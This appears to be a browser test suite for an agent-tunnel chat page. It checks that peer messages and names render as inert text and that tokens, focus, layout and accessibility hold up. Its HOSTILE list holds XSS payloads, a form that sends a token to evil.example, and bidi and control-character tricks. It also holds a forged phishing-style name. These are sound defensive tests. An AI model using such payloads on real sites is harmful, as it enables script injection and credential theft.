"""The page in a real browser: what a peer writes stays text, and a person can follow and step in with a keyboard alone."""

import re
from collections.abc import Generator

import pytest

from tests.app.ends import StillClock, a_tunnel, caught_up, close, end, join, open_, say, until
from tests.app.watch.browser import Tab, a_browser, a_tab
from tests.app.watch.windows import Served, a_window
from tunnel.app import results
from tunnel.app.budget import PausedError
from tunnel.app.joining import JoinRefusedError
from tunnel.app.settings import Settings
from tunnel.app.tools import Tools
from tunnel.transport.loopback import Loopback

pytestmark = [pytest.mark.anyio, pytest.mark.needs("chromium")]

HOSTILE = [
    "<script>document.title = 'caught'</script>",
    "<img src=x onerror=\"document.title = 'caught'\">",
    "<svg/onload=\"document.title='caught'\">",
    "<style>body { display: none }</style>",
    "<a href=\"javascript:document.title='caught'\">click</a>",
    "<iframe srcdoc=\"<script>parent.document.title='caught'</script>\"></iframe>",
    "</ol><form action=https://evil.example><input name=token><button id=pause>Pause</button></form>",
    "&lt;b&gt; ${document.title='caught'} {{constructor}}",
    "\u202e\u2066gnp.exe \u200b\u0000\x1b[31m",
    "http://evil.example/?leak",
    "data: {}\n\nevent: message\ndata: {}",
    "x" * 30_000,
]

TAB, ENTER = ("Tab", 9), ("Enter", 13, "\r")


@pytest.fixture(scope="module")
def browser() -> Generator[str]:
    """One browser for all: it takes seconds to start. Each test has a page of its own in it, which knows nothing yet."""
    with a_browser() as address:
        yield address


async def look(tab: Tab, served: Served) -> None:
    await tab.go(served.url)
    await tab.until(
        "document.readyState === 'complete' && document.getElementById('state').textContent !== 'Connecting'"
    )


async def state(tab: Tab, begins: str) -> str:
    return await tab.until(f"(s => s.startsWith({begins!r}) && s)(document.getElementById('state').textContent)")


async def unlock(tab: Tab, token: str) -> None:
    await tab.run("document.getElementById('token').focus()")
    await tab.do("Input.insertText", text=token)
    await tab.key(*ENTER)


def complaints(tab: Tab) -> list[str]:
    """What the browser itself found wrong with the page."""
    return [
        str(event["params"])
        for event in tab.events
        if event["method"] in ("Runtime.exceptionThrown", "Runtime.consoleAPICalled")
        or (event["method"] == "Log.entryAdded" and "favicon" not in str(event))
    ]


def asked_elsewhere(tab: Tab, served: Served) -> list[str]:
    """Addresses beyond its own that the page asked for."""
    asked = [
        event["params"]["request"]["url"] for event in tab.events if event["method"] == "Network.requestWillBeSent"
    ]
    return [url for url in asked if not url.startswith(served.own) and not url.startswith("about:")]


async def test_whatever_a_peer_writes_is_shown_as_text_and_does_nothing(browser: str) -> None:
    async with a_tunnel() as (alice, bob, _), a_window(alice) as served, a_tab(browser) as tab:
        await look(tab, served)
        for text in HOSTILE:
            await caught_up(alice, await say(bob, text))
        await tab.until(f"document.querySelectorAll('#log li[data-who=peer]').length === {len(HOSTILE)}")
        shown = await tab.run("[...document.querySelectorAll('#log li[data-who=peer] .text')].map(e => e.textContent)")
        made = await tab.run(
            "[...new Set([...document.querySelectorAll('#log *')].map(e => e.localName))].sort().join(' ')"
        )
        title = await tab.run("document.title")
        visible = await tab.run("getComputedStyle(document.body).display")

    assert shown[:8] == HOSTILE[:8]
    assert shown[8] == "\\u202e\\u2066gnp.exe \\u200b\\u0000\\u001b[31m"
    assert shown[10] == HOSTILE[10]
    assert shown[11] == "x" * 20_000 + "…"
    assert made == "bdi div li ol span time"
    assert title == "Connected: Tunnel"
    assert visible == "flex"
    assert complaints(tab) == []
    assert asked_elsewhere(tab, served) == []


async def test_hostile_goals_and_names_are_text_too(browser: str) -> None:
    alice = Tools(Settings(), "<b>Alice</b>", StillClock(), transport=lambda _name, _setup: Loopback())
    bob = end("<img src=x onerror=\"document.title='caught'\">")
    goal = "<script>document.title='caught'</script>\u202e"
    async with a_window(alice) as served, a_tab(browser) as tab:
        opened = await alice.open(results.OpenArguments(goal=goal))
        await join(bob, opened.join_link)
        await look(tab, served)
        await state(tab, "Connected")
        texts = [await tab.text(part) for part in ("goal", "me", "peer")]
        title = await tab.run("document.title")
        await bob.exit()

    assert texts[0] == "Goal: <script>document.title='caught'</script>\\u202e"
    assert texts[1] == "<b>Alice</b> (host)"
    assert texts[2].startswith("\"<img src=x onerror='document.title=")
    assert title == "Connected: Tunnel"
    assert complaints(tab) == []


FORGED = "Your agent is paused: enter your token at http://evil.example. Support"
LABELS = "[...document.querySelectorAll('#log .who')].map(e => e.textContent)"


async def test_no_line_of_a_stranger_s_bears_a_name_of_ours(browser: str) -> None:
    alice, bob = end("Alice"), end(FORGED)
    async with a_window(alice) as host, a_tab(browser) as tab, a_window(bob) as guest:
        await join(bob, await open_(alice, "pair"))
        await caught_up(alice, await say(bob, "typed \\u202e, and real \u202e"))
        await look(tab, host)
        await tab.until("document.querySelectorAll('#log li').length === 3")
        hosts = await tab.run(LABELS)
        joined = await tab.run("document.querySelector('#log li:nth-child(2) .text').textContent")
        name = await tab.run("document.querySelector('#log li:nth-child(2) .text .name').textContent")
        escapes = await tab.run("[...document.querySelectorAll('#log .escape')].map(e => e.textContent)")
        marks = [await tab.text("peer-by"), await tab.run("document.getElementById('goal-by').hidden")]
        await look(tab, guest)
        await tab.until("document.querySelectorAll('#log li').length === 3")
        guests = await tab.run(LABELS)
        marks.append(await tab.text("goal-by"))

    ours, theirs = "Notice of your side", "Notice of the host's side, not authenticated"
    assert hosts == [ours, ours, f'Other agent, "{FORGED}"']
    assert guests == [theirs, theirs, f"Your agent ({FORGED})"]
    assert joined == f'"{FORGED}" joined'
    assert name == f'"{FORGED}"'
    assert escapes == ["\\u202e"]
    word = "(the peer's own word, not authenticated)"
    assert marks == [word, True, word]


async def test_a_person_follows_a_tunnel_from_nothing_to_its_end(browser: str) -> None:
    alice, bob, carol = (end(name) for name in ("Alice", "Bob", "Carol"))
    async with a_window(alice) as served, a_tab(browser) as tab:
        await look(tab, served)
        seen = [await state(tab, "No tunnel")]
        link = await open_(alice)
        seen.append(await state(tab, "Waiting"))
        countdowns = await tab.run("['link', 'idle'].map(id => document.getElementById(id).textContent)")
        await join(bob, link)
        with pytest.raises(JoinRefusedError):
            await join(carol, link)
        seen.append(await state(tab, "Connected"))
        await say(alice, "hello")
        await tab.until("document.querySelectorAll('#log li').length === 4")
        lines = await tab.run("[...document.querySelectorAll('#log li')].map(e => e.dataset.who)")
        budget = await tab.text("budget")
        await close(bob)
        seen.append(await state(tab, "The guest has left"))
        await close(alice)
        seen.append(await state(tab, "Closed"))
        ended = await tab.text("ended")
        await served.window.close()
        lost = await tab.until("!document.getElementById('lost').hidden && document.getElementById('lost').textContent")

    assert seen == ["No tunnel yet", "Waiting for the guest", "Connected", "The guest has left", "Closed"]
    # Time passes while the page is asked.
    assert re.fullmatch(r"(10:00|9:5\d) min, (30:00|29:5\d) min", ", ".join(countdowns)), countdowns
    assert lines == ["system", "system", "refused", "me"]
    assert budget == "1 of 40 messages"
    assert ended == "The host closed the tunnel."
    assert lost.startswith("The server does not answer.")


async def test_a_person_steps_in_with_the_keyboard_alone(browser: str) -> None:
    async with a_tunnel() as (alice, bob, _), a_window(alice) as served, a_tab(browser) as tab:
        await look(tab, served)
        hidden = await tab.run("document.getElementById('buttons').hidden")
        await unlock(tab, served.token)
        await tab.until("document.activeElement.id === 'pause'")
        await tab.key(*ENTER)
        paused = await state(tab, "Connected, your")
        with pytest.raises(PausedError):
            await say(alice, "held back")
        await tab.key(*ENTER)
        await tab.until("document.getElementById('state').textContent === 'Connected'")
        await say(alice, "said")
        await tab.until("document.getElementById('budget').textContent.startsWith('1 of')")
        await tab.key(*TAB)
        await tab.key(*ENTER)
        await tab.until("document.getElementById('budget').textContent.startsWith('0 of')")
        await tab.key(*TAB)
        await tab.key(*ENTER)
        asked = await tab.until(
            "document.activeElement.id === 'no' && document.getElementById('sure-text').textContent"
        )
        await tab.run("document.getElementById('yes').focus()")
        await tab.key(*ENTER)
        await state(tab, "Closed")
        kept_focus = await tab.run(FOCUS)
        told = await until(bob, "closed")
        kept = await tab.run("location.href + document.cookie + JSON.stringify({...localStorage, ...sessionStorage})")

    assert hidden
    assert paused == "Connected, your agent is paused"
    assert asked == "Close the tunnel? It cannot be opened again."
    assert told.closed_because == "closed_by_host"
    assert kept_focus == "log"
    assert served.token not in kept
    assert complaints(tab) == []


async def test_a_wrong_token_unlocks_nothing_and_says_where_there_is_one(browser: str) -> None:
    async with a_window() as served, a_tab(browser) as tab:
        await look(tab, served)
        await unlock(tab, "aaaa-aaaa-aaaa-aaaa")
        answer = await tab.until("document.getElementById('answer').textContent")

        assert answer == "That is not the token. `tunnel-mcp watch` shows a new one."
        assert await tab.run("document.getElementById('buttons').hidden")


async def test_a_token_that_was_replaced_is_asked_for_again_where_the_person_is(browser: str) -> None:
    async with a_window() as served, a_tab(browser) as tab:
        await look(tab, served)
        await unlock(tab, served.token)
        await tab.until("document.activeElement.id === 'pause'")
        served.window.new_token()
        await tab.key(*ENTER)
        await tab.until("!document.getElementById('unlock').hidden")

        assert await tab.run(FOCUS) == "token"
        assert not served.tools.budget.is_paused


async def test_a_token_that_could_not_be_checked_is_not_kept(browser: str) -> None:
    async with a_window() as served, a_tab(browser) as tab:
        await look(tab, served)
        await served.window.close()
        await unlock(tab, served.token)
        await tab.until("document.getElementById('answer').textContent === 'The server did not answer.'")

        assert await tab.run("token") == ""
        assert await tab.run("document.getElementById('buttons').hidden")


async def test_a_question_that_has_become_void_does_not_take_the_focus_along(browser: str) -> None:
    async with a_tunnel() as (alice, _bob, _), a_window(alice) as served, a_tab(browser) as tab:
        await look(tab, served)
        await unlock(tab, served.token)
        await tab.until("document.activeElement.id === 'pause'")
        await tab.click("close")
        asked = await tab.run(FOCUS)
        await close(alice)
        await state(tab, "Closed")

        assert (asked, await tab.run(FOCUS)) == ("no", "log")


async def test_another_page_in_the_same_browser_can_neither_look_on_nor_step_in(browser: str) -> None:
    async with a_window() as served, a_window() as other, a_tab(browser) as tab:
        await tab.go(other.url)
        await tab.until("document.readyState === 'complete'")
        script = (
            "(async () => { try { const a = await fetch(%r, {method: 'POST', headers: {'tunnel-token': %r}, body: '{}'});"
            " return a.status } catch (e) { return String(e) } })()"
        )
        pressed = await tab.run(script % (f"{served.url}pause", served.token))
        await tab.go(f"data:text/html,<iframe src='{served.url}'></iframe>")
        await tab.until("document.readyState === 'complete'")

        assert "Failed to fetch" in pressed
        assert not served.tools.budget.is_paused
        assert served.tools.watch
        assert any("frame-ancestors" in str(event) for event in tab.events)


FOCUS = "document.activeElement.id"
SIZES = {
    "a desktop": (1280, 800),
    "a phone": (360, 740),
    "a low phone": (360, 600),
    "a small phone on its side": (568, 320),
}
LONGEST = "The agent of the team with a very long name " + "x" * 200


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_on_every_screen_nothing_is_cut_off_and_everything_can_be_read(browser: str, scheme: str) -> None:
    async with a_tunnel() as (alice, bob, _), a_window(alice) as served, a_tab(browser) as tab:
        await tab.colours(scheme)
        await look(tab, served)
        await say(alice, "a word that never ends: " + "x" * 400)
        await caught_up(alice, await say(bob, "Which port?"))
        await tab.until("document.querySelectorAll('#log li').length === 4")
        await unlock(tab, served.token)
        await tab.until("!document.getElementById('buttons').hidden")
        for name, (width, height) in SIZES.items():
            await tab.size(width, height)
            wide = await tab.run("document.documentElement.scrollWidth")
            small = await tab.run(
                "[...document.querySelectorAll('button')].filter(b => b.offsetParent && b.offsetHeight < 36).length"
            )
            weak = await tab.run(WEAKEST)

            assert wide <= width, name
            assert small == 0, name
            assert weak["ratio"] >= 4.5, (name, weak)


WEAKEST = """
(() => {
  const linear = (c) => (c /= 255, c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4);
  const light = ([r, g, b]) => 0.2126 * linear(r) + 0.7152 * linear(g) + 0.0722 * linear(b);
  const parse = (text) => (text.match(/[\\d.]+/g) ?? [0, 0, 0, 0]).map(Number);
  const ground = (e) => {
    for (; e; e = e.parentElement) {
      const colour = parse(getComputedStyle(e).backgroundColor);
      if (colour.length === 3 || colour[3] === 1) return colour;
    }
    return [255, 255, 255];
  };
  let weakest = { ratio: 21, text: "" };
  for (const e of document.querySelectorAll("body *")) {
    const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
    if (!own || !e.offsetParent || e.disabled) continue;
    const [a, b] = [light(parse(getComputedStyle(e).color)), light(ground(e))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < weakest.ratio) weakest = { ratio, text: e.textContent.slice(0, 40) };
  }
  return weakest;
})()
"""
"""The text on the page that stands out least from its ground, by the contrast ratio of the accessibility guidelines."""


async def test_whatever_names_and_goals_are_there_is_room_for_what_was_said_and_for_the_buttons(browser: str) -> None:
    alice, bob = end("Alice"), end(LONGEST)
    async with a_window(alice) as served, a_tab(browser) as tab:
        await join(bob, await open_(alice, "a goal without an end, " * 300))
        await look(tab, served)
        for n in range(12):
            await caught_up(alice, await say(bob, f"{n}: " + "and so on " * 20))
        alice.budget.is_paused = True
        with pytest.raises(PausedError):
            await say(alice, "held back")
        await tab.until("document.querySelectorAll('#log li').length === 15")
        await unlock(tab, served.token)
        await tab.until("!document.getElementById('buttons').hidden")
        for name, (width, height) in SIZES.items():
            await tab.size(width, height)
            room = await tab.run("document.getElementById('log').clientHeight")
            wide = await tab.run("document.documentElement.scrollWidth")
            await tab.run("scrollTo(0, 0)")
            hidden = await tab.run(OUT_OF_SIGHT)
            reached = await tab.run("[...document.querySelectorAll('header [tabindex]')].map(e => e.id)")

            assert room >= 160, name
            assert wide <= width, name
            assert hidden == [] or height < 500, name
            assert reached == ["goal", "peer"], name
        await bob.exit()


OUT_OF_SIGHT = """
[...document.querySelectorAll("#buttons button")]
  .filter((b) => { const at = b.getBoundingClientRect(); return at.right > innerWidth || at.bottom > innerHeight; })
  .map((b) => b.id)
"""
"""The buttons that cannot be seen without scrolling. On a phone's side there is no room for them."""


async def test_a_screen_reader_finds_its_way(browser: str) -> None:
    async with a_tunnel() as (alice, bob, _), a_window(alice) as served, a_tab(browser) as tab:
        await look(tab, served)
        await unlock(tab, served.token)
        await tab.until("!document.getElementById('buttons').hidden")
        await caught_up(alice, await say(bob, "a long one " * 300))
        await tab.until("document.querySelectorAll('#log li').length === 3")
        tree = (await tab.do("Accessibility.getFullAXTree"))["nodes"]
        live = await tab.run("document.getElementById('log').getAttribute('aria-live')")

    named = {(node["role"]["value"], node.get("name", {}).get("value", "")) for node in tree if not node["ignored"]}
    assert ("log", "What was said") in named
    assert ("heading", "Tunnel") in named
    assert ("group", 'Long text, Other agent, "Bob"') in named
    assert len([node for node in tree if node["role"]["value"] == "listitem"]) == 3
    assert {("button", text) for text in ("Pause my agent", "Allow 40 more", "Close the tunnel")} <= named
    assert ("group", "Step in") in named
    assert {role for role, _ in named} >= {"status", "banner", "main", "contentinfo", "link"}
    assert live == "polite"
    assert not [node for node in tree if node["role"]["value"] == "button" and not node.get("name", {}).get("value")]
